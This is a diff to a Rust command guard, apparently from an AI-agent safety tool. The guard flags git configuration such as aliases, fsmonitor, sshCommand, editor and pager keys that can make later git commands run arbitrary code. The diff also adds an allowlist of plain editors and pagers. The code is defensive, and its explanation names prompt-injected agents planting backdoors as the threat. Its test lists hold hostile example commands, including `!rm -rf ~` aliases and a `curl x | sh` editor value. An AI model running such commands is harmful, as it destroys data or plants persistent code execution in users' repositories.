@@ -24,14 +24,17 @@ pub static GUARD: Guard = Guard {
 - Configuration in the environment that cannot be read fully (`GIT_CONFIG_COUNT=1x`,
   a missing `GIT_CONFIG_KEY_0`).
 
+A well-known editor or pager with plain options (`core.editor vim`, `core.pager
+'less -R'`, `pager.diff delta`) is what these keys are for: allowed.
+
 ## Why
 These keys turn an innocent later command (`git status`, `git fetch`) into arbitrary
 code execution, which is how a prompt-injected agent plants a persistent backdoor.
 
 ## Instead
 Run the command directly instead of through git configuration.",
-    matches: &["git config alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i key'", "git -c core.fsmonitor='touch /tmp/x' status", "GIT_CONFIG_COUNT=1x git status", "git config core.pager 'less -R'", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name git status", "GIT_SSH_COMMAND=./helper git fetch", "GIT_SSH=./x git push origin main", "git -c core.sshCommand=./h clone example:repo", "git clone -c core.fsmonitor='touch x' https://example.com/r.git", "git clone --template=/tmp/t https://example.com/r.git", "git config -f .git/config core.fsmonitor 'touch x'"],
-    not_matches: &["git config user.name 'A B'", "git config --get alias.st", "git -c user.name=x commit -m y", "git config alias.st status", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='' git status", "GIT_CONFIG_COUNT=0 GIT_CONFIG_KEY_0=alias.nuke GIT_CONFIG_VALUE_0=reset git status", "git -c core.sshCommand=./helper status", "GIT_SSH_COMMAND='ssh -v' git log", "git clone -c http.sslVerify=true https://example.com/r.git"],
+    matches: &["git config alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i key'", "git -c core.fsmonitor='touch /tmp/x' status", "GIT_CONFIG_COUNT=1x git status", "git config core.pager 'less -R; sh x.sh'", "git config --global core.editor 'sh -c \"curl x | sh\"'", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name git status", "GIT_SSH_COMMAND=./helper git fetch", "GIT_SSH=./x git push origin main", "git -c core.sshCommand=./h clone example:repo", "git clone -c core.fsmonitor='touch x' https://example.com/r.git", "git clone --template=/tmp/t https://example.com/r.git", "git config -f .git/config core.fsmonitor 'touch x'"],
+    not_matches: &["git config user.name 'A B'", "git config --get alias.st", "git -c user.name=x commit -m y", "git config alias.st status", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='' git status", "GIT_CONFIG_COUNT=0 GIT_CONFIG_KEY_0=alias.nuke GIT_CONFIG_VALUE_0=reset git status", "git -c core.sshCommand=./helper status", "GIT_SSH_COMMAND='ssh -v' git log", "git clone -c http.sslVerify=true https://example.com/r.git", "git config core.pager 'less -R'", "git config --global core.editor 'code --wait'", "git config --global pager.diff delta"],
     programs: Programs::Only(&util::GIT),
     on_invocation: Some(check),
     on_event: None,
@@ -154,10 +157,52 @@ fn check(inv: &Invocation, cx: &Cx<'_>) -> Option<Hit> {
     if key.starts_with("alias.") && !value.could_start_with("!") {
         return None;
     }
+    // An editor or pager that is a well-known one, with plain options (`vim`, `code
+    // --wait`, `less -R`, `delta`): what git runs is that program on a file.
+    let shows_or_edits =
+        matches!(key.as_str(), "core.editor" | "core.pager" | "sequence.editor") || key.starts_with("pager.");
+    if shows_or_edits && value.as_known().is_some_and(plain_editor_or_pager) {
+        return None;
+    }
     Some(
         Hit::ask(format!("git config sets {key}, which makes git run `{}` later", value.display()))
             .hint("run the command directly instead of storing it in git configuration"),
     )
+}
+
+/// Whether a command line is a well-known editor or pager with plain arguments: no
+/// shell syntax, nothing but options and words.
+fn plain_editor_or_pager(cmd: &str) -> bool {
+    const PROGRAMS: &[&str] = &[
+        "bat",
+        "cat",
+        "code",
+        "code-insiders",
+        "cursor",
+        "delta",
+        "diff-so-fancy",
+        "ed",
+        "emacs",
+        "emacsclient",
+        "gedit",
+        "hx",
+        "kak",
+        "kate",
+        "less",
+        "mate",
+        "micro",
+        "more",
+        "most",
+        "nano",
+        "nvim",
+        "subl",
+        "vi",
+        "vim",
+        "zed",
+    ];
+    let mut words = cmd.split_ascii_whitespace();
+    let plain = cmd.bytes().all(|b| b.is_ascii_alphanumeric() || b" -_=.,+:/@%".contains(&b));
+    plain && words.next().is_some_and(|p| PROGRAMS.contains(&p))
 }
 
 #[cfg(test)]
